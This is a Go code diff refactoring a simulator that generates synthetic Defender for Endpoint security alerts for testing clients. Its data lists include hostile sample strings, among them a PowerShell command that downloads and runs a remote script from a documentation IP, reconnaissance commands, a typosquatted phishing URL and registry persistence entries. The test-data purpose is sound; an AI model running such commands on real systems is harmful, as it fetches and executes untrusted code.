@@ -1,9 +1,8 @@
-package sim
+package endpoint
 
 import (
 	"encoding/base64"
 	"fmt"
-	"hash/fnv"
 	"runtime"
 	"slices"
 	"strconv"
@@ -21,8 +20,8 @@ import (
 // text, emoji, a combining accent, quotes, <, >, &, command lines of tens
 // of KiB).
 
-// EndpointGenerate describes the alerts EndpointTenant.EndpointGenerate creates.
-type EndpointGenerate struct {
+// Generate describes the alerts Tenant.Generate creates.
+type Generate struct {
 	// From and To bound the alerts' lastUpdateTime, spread at random over
 	// [From, To]. Both zero means the simulator's now; From == To gives
 	// every alert that same lastUpdateTime. If only one is set, it is used
@@ -38,18 +37,18 @@ type EndpointGenerate struct {
 
 // Generate creates n new alerts with the tenant's seeded generator and
 // returns their ids, in creation order. It panics if To is before From.
-func (t *EndpointTenant) Generate(n int, g EndpointGenerate) []string {
+func (t *Tenant) Generate(n int, g Generate) []string {
 	if n <= 0 {
 		return nil
 	}
-	from, to := simapi.GenerateRange(g.From, g.To, t.srv.now, endpointTick, "Generate")
+	from, to := simapi.GenerateRange(g.From, g.To, t.srv.Now, Tick, "Generate")
 
-	alerts := make([]EndpointAlert, n)
+	alerts := make([]Alert, n)
 	t.mu.Lock()
 	gen := t.generator()
 	var shared *time.Time
 	if g.SameCreationTime {
-		c := from.Add(-time.Duration(gen.RNG.Int64N(int64(2 * time.Minute)))).Truncate(endpointTick)
+		c := from.Add(-time.Duration(gen.RNG.Int64N(int64(2 * time.Minute)))).Truncate(Tick)
 		shared = &c
 	}
 	taken := make(map[string]bool, n)
@@ -64,7 +63,7 @@ func (t *EndpointTenant) Generate(n int, g EndpointGenerate) []string {
 	t.mu.Unlock()
 
 	// Rendering is the costly part; it needs no lock and no randomness.
-	versions := make([]*endpointVersion, n)
+	versions := make([]*Revision, n)
 	workers := min(runtime.GOMAXPROCS(0), (n+255)/256)
 	var wg sync.WaitGroup
 	for w := range workers {
@@ -96,7 +95,7 @@ func (t *EndpointTenant) Generate(n int, g EndpointGenerate) []string {
 // state); a Resolved alert gets a comment, or is reopened now and then.
 // Any step may add a comment. It returns the ids, fewer when the tenant has
 // fewer than n alerts.
-func (t *EndpointTenant) UpdateRandom(n int, visibleAfter time.Duration) []string {
+func (t *Tenant) UpdateRandom(n int, visibleAfter time.Duration) []string {
 	t.mu.Lock()
 	defer t.mu.Unlock()
 	gen := t.generator()
@@ -110,8 +109,8 @@ func (t *EndpointTenant) UpdateRandom(n int, visibleAfter time.Duration) []strin
 }
 
 // generator returns the tenant's generator. t.mu must be held.
-func (t *EndpointTenant) generator() *alertGen {
-	return &alertGen{Draws: simapi.Draws{RNG: t.rng}, tenant: t.id, now: t.srv.now, machines: &t.machines}
+func (t *Tenant) generator() *alertGen {
+	return &alertGen{Draws: simapi.Draws{RNG: t.rng}, tenant: t.id, now: t.srv.Now, machines: &t.machines}
 }
 
 // alertGen draws alerts. Its rng is the tenant's, used under the tenant's
@@ -128,22 +127,9 @@ type machine struct {
 	rbac    *string
 }
 
-func ptr[T any](v T) *T { return &v }
-
 // weighted picks list[i] with probability weights[i]/sum.
 func (g *alertGen) weighted(list []string, weights []int) string {
 	return list[g.WeightedIndex(weights...)]
-}
-
-// nameGUID is a stable GUID for a name (a detector per title).
-func nameGUID(name string) string {
-	h := fnv.New128a()
-	h.Write([]byte(name))
-	var b [16]byte
-	copy(b[:], h.Sum(nil))
-	b[6] = b[6]&0x0f | 0x50
-	b[8] = b[8]&0x3f | 0x80
-	return simapi.FormatGUID(b)
 }
 
 func (g *alertGen) between(lo, hi time.Duration) time.Duration {
@@ -167,7 +153,7 @@ func (g *alertGen) precise(t time.Time) time.Time {
 	case x < 6:
 		return t.Truncate(time.Millisecond)
 	}
-	return t.Truncate(endpointTick)
+	return t.Truncate(Tick)
 }
 
 func (g *alertGen) lastUpdate(from, to time.Time) time.Time {
@@ -178,7 +164,7 @@ func (g *alertGen) lastUpdate(from, to time.Time) time.Time {
 	if p := g.precise(t); !p.Before(from) {
 		return p
 	}
-	return t.Truncate(endpointTick) // from is on a tick, so this is >= from
+	return t.Truncate(Tick) // from is on a tick, so this is >= from
 }
 
 // reID keeps the ticks of an id and draws a new number.
@@ -194,7 +180,7 @@ func (g *alertGen) machine() machine {
 		dom := g.Pick([]string{"contoso.local", "corp.contoso.com", "emea.fabrikam.com", "middleeast.corp.contoso.com", "lab.tailspin.internal"})
 		m := machine{id: g.Hex(40), dns: host + "." + dom}
 		if !g.Chance(0.15) {
-			m.rbac = ptr(g.Pick([]string{"A", "Workstations", "Servers - Tier 0", "Finance Laptops (EU)", "Entwicklung – München", "UnassignedGroup"}))
+			m.rbac = simapi.Ptr(g.Pick([]string{"A", "Workstations", "Servers - Tier 0", "Finance Laptops (EU)", "Entwicklung – München", "UnassignedGroup"}))
 		}
 		*g.machines = append(ms, m)
 		return m
@@ -231,13 +217,16 @@ func (g *alertGen) person() person {
 var endpointAnalysts = []string{"secop123@contoso.com", "soc-analyst@contoso.com", "Automation", "j.mueller@contoso.de", "tier2.ir@fabrikam.com"}
 
 // File names, some with the characters clients must keep intact.
-var endpointFileNames = []string{
+var fileNames = []string{
 	"suspicious.dll", "invoice_2024_0412.pdf.exe", "Rechnung_März_Überweisung.pdf.exe", "請求書_2024年4月.docm",
 	"فاتورة_مستحقة.xlsm", "💸payroll_update🔥.js", "Re\u0301sume\u0301_final.lnk", "R&D_roadmap.docx",
 	"update.ps1", "setup_x64.msi", "svch0st.exe", "mimikatz.exe", "beacon_x64.dll", "readme.hta",
 }
 
-var endpointThreats = []struct{ family, name, category string }{
+// Threat is a malware family of the generator's vocabulary.
+type Threat struct{ Family, Name, Category string }
+
+var threats = []Threat{
 	{"Meterpreter", "Trojan:Win32/Meterpreter.A!ad", "Malware"},
 	{"Mimikatz", "HackTool:Win32/Mimikatz.D", "CredentialAccess"},
 	{"Emotet", "Trojan:Win32/Emotet.RPA!MTB", "Malware"},
@@ -283,7 +272,7 @@ var endpointCustomTitles = []string{
 	`Rule "Finance exfil watch" matched`,
 }
 
-var endpointDescriptions = []string{
+var descriptions = []string{
 	"Binaries signed by Microsoft can be used to run low-reputation arbitrary code. This technique hides the execution of malicious code within a trusted process. As a result, the trusted process might exhibit suspicious behaviors, such as opening a listening port or connecting to a command-and-control (C&C) server.",
 	`A process ran a suspicious command line: cmd.exe /c "whoami /all > %TEMP%\out.txt & type %TEMP%\out.txt". Such commands are used to discover the privileges of the current user.`,
 	"The file '{file}' was observed on {host}. It contains <script> elements & obfuscated strings commonly used by '{family}'.",
@@ -294,13 +283,13 @@ var endpointDescriptions = []string{
 	"A known '{family}' component was detected and remediated on {host}. Threats like this can give attackers persistent access; review the device's timeline for related activity.",
 }
 
-var endpointMitre = []string{"T1059", "T1059.001", "T1059.003", "T1055", "T1055.012", "T1003", "T1003.001",
+var mitre = []string{"T1059", "T1059.001", "T1059.003", "T1055", "T1055.012", "T1003", "T1003.001",
 	"T1218", "T1218.011", "T1064", "T1085", "T1220", "T1566.001", "T1204.002", "T1547.001", "T1053.005",
 	"T1021.002", "T1570", "T1486", "T1490", "T1070.001", "T1562.001", "T1027", "T1105", "T1071.001",
 	"T1041", "T1567.002", "T1087.002", "T1069.002", "T1082", "T1113", "T1115", "T1068", "T1134"}
 
 // alert draws one alert whose lastUpdateTime is lastUpdate.
-func (g *alertGen) alert(lastUpdate time.Time, sharedCreation *time.Time) EndpointAlert {
+func (g *alertGen) alert(lastUpdate time.Time, sharedCreation *time.Time) Alert {
 	status := g.weighted(endpointStatuses, []int{5, 45, 20, 30})
 	category := g.Pick(endpointCategories)
 	source := g.weighted(endpointDetectionSources, []int{40, 20, 5, 8, 7, 8, 6, 6})
@@ -309,7 +298,7 @@ func (g *alertGen) alert(lastUpdate time.Time, sharedCreation *time.Time) Endpoi
 			source = "WindowsDefenderAv"
 		}
 	}
-	threat := endpointThreats[g.RNG.IntN(len(endpointThreats))]
+	threat := threats[g.RNG.IntN(len(threats))]
 	hasThreat := source == "WindowsDefenderAv" || category == "Malware" || category == "Ransomware" || category == "UnwantedSoftware"
 
 	var age time.Duration
@@ -323,80 +312,80 @@ func (g *alertGen) alert(lastUpdate time.Time, sharedCreation *time.Time) Endpoi
 	default:
 		age = g.between(30*time.Minute, 14*24*time.Hour)
 	}
-	creation := lastUpdate.Add(-age).Truncate(endpointTick)
+	creation := lastUpdate.Add(-age).Truncate(Tick)
 	if g.Chance(0.2) {
 		creation = creation.Truncate(time.Millisecond)
 	}
 	if sharedCreation != nil {
 		creation = *sharedCreation
 	}
-	lastEvent := creation.Add(-g.between(time.Second, 30*time.Minute)).Truncate(endpointTick)
+	lastEvent := creation.Add(-g.between(time.Second, 30*time.Minute)).Truncate(Tick)
 	firstEvent := lastEvent
 	if g.Chance(0.7) {
-		firstEvent = lastEvent.Add(-g.between(time.Millisecond, 2*time.Hour)).Truncate(endpointTick)
+		firstEvent = lastEvent.Add(-g.between(time.Millisecond, 2*time.Hour)).Truncate(Tick)
 	}
 
 	m := g.machine()
-	file := g.Pick(endpointFileNames)
+	file := g.Pick(fileNames)
 	title := g.Pick(endpointTitles[category])
 	if source == "CustomDetection" && g.Chance(0.7) {
 		title = g.Pick(endpointCustomTitles)
 	}
-	fill := strings.NewReplacer("{file}", file, "{family}", threat.family, "{host}", m.dns)
+	fill := strings.NewReplacer("{file}", file, "{family}", threat.Family, "{host}", m.dns)
 
 	// id: "da" + .NET ticks + "_" + int32. In the documented example the
 	// ticks are 0.56 s after alertCreationTime, so they are drawn in the
 	// second that follows it: a client must not read times from ids.
-	ticks := dotNetTicks(creation) + g.RNG.Int64N(10_000_000)
-	a := EndpointAlert{
+	ticks := DotNetTicks(creation) + g.RNG.Int64N(10_000_000)
+	a := Alert{
 		ID:                endpointAlertID(ticks, int32(g.RNG.Uint32())),
 		Severity:          g.weighted(endpointSeverities, []int{4, 20, 26, 30, 20}),
 		Status:            status,
 		DetectionSource:   source,
 		Category:          category,
 		Title:             fill.Replace(title),
-		Description:       fill.Replace(g.Pick(endpointDescriptions)),
+		Description:       fill.Replace(g.Pick(descriptions)),
 		AlertCreationTime: &creation,
 		FirstEventTime:    &firstEvent,
 		LastEventTime:     &lastEvent,
 		LastUpdateTime:    &lastUpdate,
 		MachineID:         m.id,
 		ComputerDNSName:   m.dns,
-		RBACGroupName:     cloneptr(m.rbac),
+		RBACGroupName:     simapi.ClonePtr(m.rbac),
 		AADTenantID:       g.tenant,
 		MitreTechniques:   []string{},
-		Comments:          []EndpointComment{},
+		Comments:          []Comment{},
 	}
 	if g.Chance(0.9) {
-		a.IncidentID = ptr(int64(1_000_000 + g.RNG.IntN(200_000)))
+		a.IncidentID = simapi.Ptr(int64(1_000_000 + g.RNG.IntN(200_000)))
 	}
 	if g.Chance(0.55) {
-		a.InvestigationID = ptr(int64(100_000 + g.RNG.IntN(900_000)))
+		a.InvestigationID = simapi.Ptr(int64(100_000 + g.RNG.IntN(900_000)))
 	}
 	switch {
 	case status == "InProgress" || status == "Resolved":
 		if g.Chance(0.85) {
-			a.AssignedTo = ptr(g.Pick(endpointAnalysts))
+			a.AssignedTo = simapi.Ptr(g.Pick(endpointAnalysts))
 		}
 	case status == "New" && g.Chance(0.1):
-		a.AssignedTo = ptr("Automation")
+		a.AssignedTo = simapi.Ptr("Automation")
 	}
 	classified := map[string]float64{"Unknown": 0.05, "New": 0.05, "InProgress": 0.2, "Resolved": 0.85}[status]
 	if g.Chance(classified) {
 		g.classify(&a)
 	}
 	if g.Chance(0.9) {
-		a.InvestigationState = ptr(g.Pick(endpointInvestigationStates))
+		a.InvestigationState = simapi.Ptr(g.Pick(endpointInvestigationStates))
 	}
 	if g.Chance(0.9) {
-		a.DetectorID = ptr(nameGUID(title))
+		a.DetectorID = simapi.Ptr(simapi.NameGUID(title))
 	}
 	if hasThreat && g.Chance(0.9) {
-		a.ThreatFamilyName = ptr(threat.family)
-		a.ThreatName = ptr(threat.name)
+		a.ThreatFamilyName = simapi.Ptr(threat.Family)
+		a.ThreatName = simapi.Ptr(threat.Name)
 	}
 	if status == "Resolved" {
-		r := lastUpdate.Add(-g.between(0, 3*time.Second)).Truncate(endpointTick)
+		r := lastUpdate.Add(-g.between(0, 3*time.Second)).Truncate(Tick)
 		if r.Before(creation) {
 			r = creation
 		}
@@ -404,20 +393,20 @@ func (g *alertGen) alert(lastUpdate time.Time, sharedCreation *time.Time) Endpoi
 	}
 	if !g.Chance(0.15) {
 		for range 1 + g.RNG.IntN(5) {
-			if t := g.Pick(endpointMitre); !slices.Contains(a.MitreTechniques, t) {
+			if t := g.Pick(mitre); !slices.Contains(a.MitreTechniques, t) {
 				a.MitreTechniques = append(a.MitreTechniques, t)
 			}
 		}
 	}
 	user := g.person()
 	if g.Chance(0.7) {
-		a.RelatedUser = &EndpointUser{UserName: user.user, DomainName: user.domain}
+		a.RelatedUser = &User{UserName: user.user, DomainName: user.domain}
 	}
 	for range g.WeightedIndex(70, 18, 8, 4) {
 		a.Comments = append(a.Comments, g.comment(creation, lastUpdate))
 	}
 	n := g.WeightedIndex(10, 20, 18, 12, 12, 10, 8, 6, 4)
-	a.Evidence = make([]EndpointEvidence, 0, n)
+	a.Evidence = make([]Evidence, 0, n)
 	for range n {
 		a.Evidence = append(a.Evidence, g.evidence(creation, lastUpdate, firstEvent, user, file))
 	}
@@ -426,12 +415,12 @@ func (g *alertGen) alert(lastUpdate time.Time, sharedCreation *time.Time) Endpoi
 
 // classify sets a classification and, usually, a determination valid for
 // it (older alerts carry none).
-func (g *alertGen) classify(a *EndpointAlert) {
+func (g *alertGen) classify(a *Alert) {
 	c := g.Pick(endpointClassifications)
-	a.Classification = ptr(c)
+	a.Classification = simapi.Ptr(c)
 	a.Determination = nil
 	if g.Chance(0.9) {
-		a.Determination = ptr(g.Pick(endpointDeterminations[c]))
+		a.Determination = simapi.Ptr(g.Pick(endpointDeterminations[c]))
 	}
 }
 
@@ -444,15 +433,18 @@ var endpointCommentTexts = []string{
 	"تم عزل الجهاز ✅",
 }
 
-func (g *alertGen) comment(from, to time.Time) EndpointComment {
+func (g *alertGen) comment(from, to time.Time) Comment {
 	at := from
 	if to.After(from) {
-		at = from.Add(time.Duration(g.RNG.Int64N(int64(to.Sub(from))))).Truncate(endpointTick)
+		at = from.Add(time.Duration(g.RNG.Int64N(int64(to.Sub(from))))).Truncate(Tick)
 	}
-	return EndpointComment{Comment: g.Pick(endpointCommentTexts), CreatedBy: g.Pick(endpointAnalysts[:2]), CreatedTime: at}
+	return Comment{Comment: g.Pick(endpointCommentTexts), CreatedBy: g.Pick(endpointAnalysts[:2]), CreatedTime: at}
 }
 
-var endpointProcesses = []struct{ name, folder, cmd string }{
+// Process is a process of the generator's vocabulary.
+type Process struct{ Name, Folder, Cmd string }
+
+var processes = []Process{
 	{"rundll32.exe", `C:\Windows\SysWOW64`, `rundll32.exe  c:\temp\suspicious.dll,RepeatAfterMe`},
 	{"powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0`, `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"`},
 	{"cmd.exe", `C:\Windows\System32`, `cmd.exe /c "whoami /all & net group \"Domain Admins\" /domain > C:\Users\Public\o.txt"`},
@@ -471,11 +463,14 @@ var endpointParents = []struct{ name, folder string }{
 	{"WmiPrvSE.exe", `C:\Windows\System32\wbem`}, {"svchost.exe", `C:\Windows\System32`},
 }
 
-var endpointFolders = []string{`c:\temp`, `C:\Users\anna.schmidt\AppData\Local\Temp`, `C:\Users\jürgen.müller\Downloads`,
+var folders = []string{`c:\temp`, `C:\Users\anna.schmidt\AppData\Local\Temp`, `C:\Users\jürgen.müller\Downloads`,
 	`C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp`, `\\fileserver01\share$\Finance`,
 	`C:\Users\tanaka.hiroshi\デスクトップ`, `C:\Program Files (x86)\Vendor App`, `C:\Windows\Temp`}
 
-var endpointRegistry = []struct{ hive, key, typ, value string }{
+// RegistryValue is a registry value of the generator's vocabulary.
+type RegistryValue struct{ Hive, Key, Type, Value string }
+
+var registryValues = []RegistryValue{
 	{"HKEY_LOCAL_MACHINE", `SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "String", `C:\Users\Public\upd.exe`},
 	{"HKEY_CURRENT_USER", `Software\Microsoft\Windows\CurrentVersion\RunOnce`, "ExpandString", `%APPDATA%\svc\host.exe -k netsvcs`},
 	{"HKEY_LOCAL_MACHINE", `SYSTEM\CurrentControlSet\Services\WinDefend`, "Dword", "4"},
@@ -487,7 +482,7 @@ var endpointRegistry = []struct{ hive, key, typ, value string }{
 	{"HKEY_LOCAL_MACHINE", `SOFTWARE\Contoso\Agent`, "Qword", "133520640000000000"},
 }
 
-var endpointURLs = []string{
+var urls = []string{
 	"http://198.51.100.23:8080/payload.ps1",
 	"https://login.micros0ft-secure.com/owa/?user=anna.schmidt&ref=mail",
 	"https://bücher.example/rechnung?id=4711&lang=de",
@@ -496,7 +491,10 @@ var endpointURLs = []string{
 	"https://例え.jp/ログイン",
 }
 
-var endpointGroups = []struct{ name, rid string }{
+// Group is a device group of the generator's vocabulary.
+type Group struct{ Name, RID string }
+
+var deviceGroups = []Group{
 	{"Domain Admins", "512"}, {"Enterprise Admins", "519"}, {"Remote Desktop Users", "1104"}, {"Finanzbuchhaltung – Lesezugriff", "2231"},
 }
 
@@ -513,13 +511,13 @@ func (g *alertGen) ip() string {
 }
 
 // pid is a Windows process id (a multiple of 4).
-func (g *alertGen) pid() *int64 { return ptr(int64(4 * (1 + g.RNG.IntN(16000)))) }
+func (g *alertGen) pid() *int64 { return simapi.Ptr(int64(4 * (1 + g.RNG.IntN(16000)))) }
 
 func (g *alertGen) detection() *string {
 	if g.Chance(0.25) {
 		return nil
 	}
-	return ptr(g.Pick(endpointDetectionStatuses))
+	return simapi.Ptr(g.Pick(endpointDetectionStatuses))
 }
 
 // hugeCommandLine is a PowerShell -EncodedCommand line of 8 to 64 KiB: the
@@ -538,7 +536,7 @@ func (g *alertGen) hugeCommandLine() string {
 
 // evidence draws one evidence item of a random entity type, every field
 // present and null unless the type uses it.
-func (g *alertGen) evidence(creation, lastUpdate, firstEvent time.Time, user person, file string) EndpointEvidence {
+func (g *alertGen) evidence(creation, lastUpdate, firstEvent time.Time, user person, file string) Evidence {
 	at := creation.Add(g.between(0, 2*time.Second))
 	if at.After(lastUpdate) {
 		at = lastUpdate
@@ -547,79 +545,79 @@ func (g *alertGen) evidence(creation, lastUpdate, firstEvent time.Time, user per
 	if at.Before(creation) {
 		at = creation
 	}
-	e := EndpointEvidence{EntityType: g.Pick(endpointEntityTypes), EvidenceCreationTime: &at}
+	e := Evidence{EntityType: g.Pick(endpointEntityTypes), EvidenceCreationTime: &at}
 	switch e.EntityType {
 	case "User":
 		p := g.person()
 		if g.Chance(0.5) {
 			p = user
 		}
-		e.AccountName, e.DomainName, e.UserSid = ptr(p.user), ptr(p.domain), ptr(p.sid)
+		e.AccountName, e.DomainName, e.UserSid = simapi.Ptr(p.user), simapi.Ptr(p.domain), simapi.Ptr(p.sid)
 		if p.aad != "" {
-			e.AADUserID, e.UserPrincipalName = ptr(p.aad), ptr(p.upn)
+			e.AADUserID, e.UserPrincipalName = simapi.Ptr(p.aad), simapi.Ptr(p.upn)
 		}
 	case "Process":
-		pr := endpointProcesses[g.RNG.IntN(len(endpointProcesses))]
+		pr := processes[g.RNG.IntN(len(processes))]
 		pa := endpointParents[g.RNG.IntN(len(endpointParents))]
-		e.Sha1, e.Sha256 = ptr(g.Hex(40)), ptr(g.Hex(64))
-		e.FileName, e.FilePath = ptr(pr.name), ptr(pr.folder)
+		e.Sha1, e.Sha256 = simapi.Ptr(g.Hex(40)), simapi.Ptr(g.Hex(64))
+		e.FileName, e.FilePath = simapi.Ptr(pr.Name), simapi.Ptr(pr.Folder)
 		e.ProcessID, e.ParentProcessID = g.pid(), g.pid()
-		cmd := pr.cmd
+		cmd := pr.Cmd
 		if g.Chance(0.015) {
 			cmd = g.hugeCommandLine()
 		}
 		e.ProcessCommandLine = &cmd
-		pct := firstEvent.Add(-g.between(time.Millisecond, time.Minute)).Truncate(endpointTick)
-		ppct := pct.Add(-g.between(time.Millisecond, 6*time.Hour)).Truncate(endpointTick)
+		pct := firstEvent.Add(-g.between(time.Millisecond, time.Minute)).Truncate(Tick)
+		ppct := pct.Add(-g.between(time.Millisecond, 6*time.Hour)).Truncate(Tick)
 		e.ProcessCreationTime, e.ParentProcessCreationTime = &pct, &ppct
-		e.ParentProcessFileName, e.ParentProcessFilePath = ptr(pa.name), ptr(pa.folder)
+		e.ParentProcessFileName, e.ParentProcessFilePath = simapi.Ptr(pa.name), simapi.Ptr(pa.folder)
 		e.DetectionStatus = g.detection()
 	case "File":
-		e.Sha1, e.Sha256 = ptr(g.Hex(40)), ptr(g.Hex(64))
-		e.FileName, e.FilePath = ptr(file), ptr(g.Pick(endpointFolders))
+		e.Sha1, e.Sha256 = simapi.Ptr(g.Hex(40)), simapi.Ptr(g.Hex(64))
+		e.FileName, e.FilePath = simapi.Ptr(file), simapi.Ptr(g.Pick(folders))
 		e.DetectionStatus = g.detection()
 	case "Ip":
-		e.IPAddress = ptr(g.ip())
+		e.IPAddress = simapi.Ptr(g.ip())
 	case "Url":
-		e.URL = ptr(g.Pick(endpointURLs))
+		e.URL = simapi.Ptr(g.Pick(urls))
 		if g.Chance(0.3) {
-			e.DetectionStatus = ptr("Blocked")
+			e.DetectionStatus = simapi.Ptr("Blocked")
 		}
 	case "Registry":
-		r := endpointRegistry[g.RNG.IntN(len(endpointRegistry))]
-		e.RegistryKey = ptr(r.hive + `\` + r.key)
-		e.RegistryHive, e.RegistryValueType, e.RegistryValue = ptr(r.hive), ptr(r.typ), ptr(r.value)
+		r := registryValues[g.RNG.IntN(len(registryValues))]
+		e.RegistryKey = simapi.Ptr(r.Hive + `\` + r.Key)
+		e.RegistryHive, e.RegistryValueType, e.RegistryValue = simapi.Ptr(r.Hive), simapi.Ptr(r.Type), simapi.Ptr(r.Value)
 	case "MailBox":
 		p := g.person()
 		if p.upn != "" {
-			e.AccountName, e.UserPrincipalName, e.AADUserID = ptr(p.user), ptr(p.upn), ptr(p.aad)
+			e.AccountName, e.UserPrincipalName, e.AADUserID = simapi.Ptr(p.user), simapi.Ptr(p.upn), simapi.Ptr(p.aad)
 		}
 	case "SecurityGroup":
-		grp := endpointGroups[g.RNG.IntN(len(endpointGroups))]
-		e.AccountName, e.DomainName = ptr(grp.name), ptr("CONTOSO")
-		e.UserSid = ptr("S-1-5-21-1004336348-1177238915-682003330-" + grp.rid)
-		e.AADUserID = ptr(nameGUID("group " + grp.name))
+		grp := deviceGroups[g.RNG.IntN(len(deviceGroups))]
+		e.AccountName, e.DomainName = simapi.Ptr(grp.Name), simapi.Ptr("CONTOSO")
+		e.UserSid = simapi.Ptr("S-1-5-21-1004336348-1177238915-682003330-" + grp.RID)
+		e.AADUserID = simapi.Ptr(simapi.NameGUID("group " + grp.Name))
 	case "MailMessage", "MailCluster":
 		// No evidence field of the MDE schema describes mail: every one
 		// stays null, which clients must accept.
 		if g.Chance(0.3) {
-			e.DetectionStatus = ptr(g.Pick([]string{"Detected", "Blocked"}))
+			e.DetectionStatus = simapi.Ptr(g.Pick([]string{"Detected", "Blocked"}))
 		}
 	}
 	return e
 }
 
 // lifecycleStep is one analyst action on an alert (UpdateRandom).
-func (g *alertGen) lifecycleStep(a *EndpointAlert) {
-	now := g.now().UTC().Truncate(endpointTick)
+func (g *alertGen) lifecycleStep(a *Alert) {
+	now := g.now().UTC().Truncate(Tick)
 	commented := false
 	switch a.Status {
 	case "Unknown":
 		a.Status = "New"
 	case "New":
 		a.Status = "InProgress"
-		a.AssignedTo = ptr(g.Pick(endpointAnalysts))
-		a.InvestigationState = ptr(g.Pick([]string{"Running", "PendingApproval", "Queued", "PendingResource"}))
+		a.AssignedTo = simapi.Ptr(g.Pick(endpointAnalysts))
+		a.InvestigationState = simapi.Ptr(g.Pick([]string{"Running", "PendingApproval", "Queued", "PendingResource"}))
 	case "InProgress":
 		a.Status = "Resolved"
 		r := now
@@ -630,16 +628,16 @@ func (g *alertGen) lifecycleStep(a *EndpointAlert) {
 		if a.Classification == nil || g.Chance(0.3) {
 			g.classify(a)
 		}
-		a.InvestigationState = ptr(g.Pick([]string{"SuccessfullyRemediated", "Benign", "PartiallyRemediated", "TerminatedByUser", "TerminatedBySystem", "Failed", "PartiallyInvestigated"}))
+		a.InvestigationState = simapi.Ptr(g.Pick([]string{"SuccessfullyRemediated", "Benign", "PartiallyRemediated", "TerminatedByUser", "TerminatedBySystem", "Failed", "PartiallyInvestigated"}))
 	default: // Resolved (or anything else): reopened now and then, else commented
 		if g.Chance(0.25) {
 			a.Status = "InProgress"
 			a.ResolvedTime = nil
 			if a.AssignedTo == nil {
-				a.AssignedTo = ptr(g.Pick(endpointAnalysts))
+				a.AssignedTo = simapi.Ptr(g.Pick(endpointAnalysts))
 			}
 		} else {
-			a.Comments = append(a.Comments, EndpointComment{Comment: g.Pick(endpointCommentTexts), CreatedBy: g.Pick(endpointAnalysts[:2]), CreatedTime: now})
+			a.Comments = append(a.Comments, Comment{Comment: g.Pick(endpointCommentTexts), CreatedBy: g.Pick(endpointAnalysts[:2]), CreatedTime: now})
 			commented = true
 			if g.Chance(0.2) {
 				g.classify(a)
@@ -647,6 +645,36 @@ func (g *alertGen) lifecycleStep(a *EndpointAlert) {
 		}
 	}
 	if !commented && g.Chance(0.25) {
-		a.Comments = append(a.Comments, EndpointComment{Comment: g.Pick(endpointCommentTexts), CreatedBy: g.Pick(endpointAnalysts[:2]), CreatedTime: now})
+		a.Comments = append(a.Comments, Comment{Comment: g.Pick(endpointCommentTexts), CreatedBy: g.Pick(endpointAnalysts[:2]), CreatedTime: now})
 	}
 }
+
+// The generator's vocabulary, for the Graph view of Endpoint alerts to draw
+// from the same lists. Callers must not modify them.
+
+// Descriptions are the generator's alert descriptions.
+func Descriptions() []string { return descriptions }
+
+// FileNames are the generator's file names.
+func FileNames() []string { return fileNames }
+
+// Folders are the generator's folders.
+func Folders() []string { return folders }
+
+// Groups are the generator's device groups.
+func Groups() []Group { return deviceGroups }
+
+// Mitre are the generator's MITRE technique IDs.
+func Mitre() []string { return mitre }
+
+// Processes are the generator's processes.
+func Processes() []Process { return processes }
+
+// Registry are the generator's registry values.
+func Registry() []RegistryValue { return registryValues }
+
+// Threats are the generator's threats.
+func Threats() []Threat { return threats }
+
+// URLs are the generator's URLs.
+func URLs() []string { return urls }
